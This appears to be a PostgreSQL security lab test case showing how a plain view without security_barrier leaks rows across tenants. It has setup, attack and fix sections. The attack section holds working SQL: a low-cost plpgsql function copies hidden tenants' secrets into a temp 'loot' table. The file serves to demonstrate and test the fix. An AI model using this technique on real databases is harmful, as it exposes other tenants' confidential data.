-- isolation by a plain view (no security_barrier): attacker's cheap function sees the hidden rows

--- setup
CREATE TABLE app.inv(tenant_id int NOT NULL, secret text); INSERT INTO app.inv VALUES (1,'mine'),(2,'victim-inv'); CREATE VIEW app.my_inv AS SELECT * FROM app.inv WHERE tenant_id = app.current_tenant(); GRANT SELECT ON app.my_inv TO rls_app;

--- attack
--- as rls_app
SET app.tenant_id='1';
CREATE TEMP TABLE loot(s text); CREATE FUNCTION pg_temp.leak(x text) RETURNS boolean COST 0.00001 LANGUAGE plpgsql AS $$ BEGIN INSERT INTO loot VALUES (x); RETURN true; END $$;
SELECT 'rows: '||lab.n('select 1 from app.my_inv where pg_temp.leak(secret)'); SELECT lab.v(EXISTS(SELECT 1 FROM loot WHERE s LIKE 'victim%'),'function saw '||(SELECT string_agg(s,',') FROM loot));

--- fix
ALTER VIEW app.my_inv SET (security_barrier = true);
